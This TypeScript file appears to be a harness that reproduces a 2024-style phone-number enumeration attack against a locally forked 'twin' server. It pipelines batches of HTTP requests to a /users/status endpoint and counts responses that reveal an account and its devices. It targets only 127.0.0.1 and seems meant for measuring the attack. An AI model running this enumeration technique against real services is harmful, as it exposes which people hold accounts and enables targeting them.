// Attacks the twin as in 2024: one request after the other down a list, as fast as it answers.
import { fork } from 'node:child_process';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';

const CONNECTIONS = 2;
/** Requests sent before their answers are read. */
const AT_ONCE = 400;

export interface Robbed {
  readonly sent: number;
  readonly confirmed: number;
  readonly seconds: number;
  readonly curve: readonly { readonly sent: number; readonly gained: number }[];
}

export async function robTwin(
  candidates: readonly string[],
  registered: readonly string[],
  progress: (share: number) => void,
): Promise<Robbed> {
  const child = fork(join(import.meta.dirname, 'twin.mjs'), { execArgv: [] });
  try {
    child.send([...registered]);
    const [port] = (await once(child, 'message')) as [number];
    const startedAt = performance.now();
    let [next, confirmed] = [0, 0];
    const curve = [{ sent: 0, gained: 0 }];
    const rob = async () => {
      const line = new Line(port);
      while (next < candidates.length) {
        const batch = candidates.slice(next, (next += AT_ONCE));
        const found = await line.ask(batch);
        confirmed += found;
        const sent = Math.min(next, candidates.length);
        if (sent % 20_000 < AT_ONCE) {
          curve.push({ sent, gained: confirmed });
          progress(sent / candidates.length);
        }
      }
      line.close();
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, rob));
    const seconds = (performance.now() - startedAt) / 1_000;
    return {
      sent: candidates.length,
      confirmed,
      seconds,
      curve: [...curve, { sent: candidates.length, gained: confirmed }],
    };
  } finally {
    child.disconnect();
  }
}

/** One connection, many requests in flight (RFC 9112 §9.3.2). */
class Line {
  private readonly socket: Socket;
  private rest = '';
  private open = 0;
  private found = 0;
  private done: { resolve: (found: number) => void; reject: (error: Error) => void } | null = null;

  constructor(port: number) {
    this.socket = connect({ port, host: '127.0.0.1', noDelay: true }).setEncoding('latin1');
    this.socket.on('data', (text: Buffer | string) => this.take(text.toString()));
    this.socket.on('error', (error) => this.done?.reject(error));
    this.socket.on('close', () => this.done?.reject(new Error('the twin closed a connection')));
  }

  /** How many of these numbers the twin knows. */
  ask(numbers: readonly string[]): Promise<number> {
    this.open = numbers.length;
    this.found = 0;
    const answer = new Promise<number>((resolve, reject) => (this.done = { resolve, reject }));
    this.socket.write(numbers.map(requestFor).join(''), 'latin1');
    return answer;
  }

  close(): void {
    this.done = null;
    this.socket.destroy();
  }

  private take(text: string): void {
    this.rest += text;
    for (let end = this.endOfFirst(); end > 0; end = this.endOfFirst()) {
      const body = this.rest.slice(this.rest.indexOf('\r\n\r\n') + 4, end);
      // Counts the revealed account and its devices, not only the status.
      if (this.rest.startsWith('HTTP/1.1 200') && body.includes('"device_count"')) this.found += 1;
      this.rest = this.rest.slice(end);
      this.open -= 1;
    }
    if (this.open === 0) this.done?.resolve(this.found);
  }

  /** The end of the first answer; 0 if it is incomplete. */
  private endOfFirst(): number {
    const head = this.rest.indexOf('\r\n\r\n');
    if (head < 0) return 0;
    const length = /\r\nContent-Length: (\d+)/.exec(this.rest.slice(0, head))?.[1];
    if (length === undefined) throw new Error('the twin said no length');
    const end = head + 4 + Number(length);
    return this.rest.length >= end ? end : 0;
  }
}

function requestFor(phoneNumber: string): string {
  return `GET /users/status?phone_number=${encodeURIComponent(phoneNumber)} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`;
}
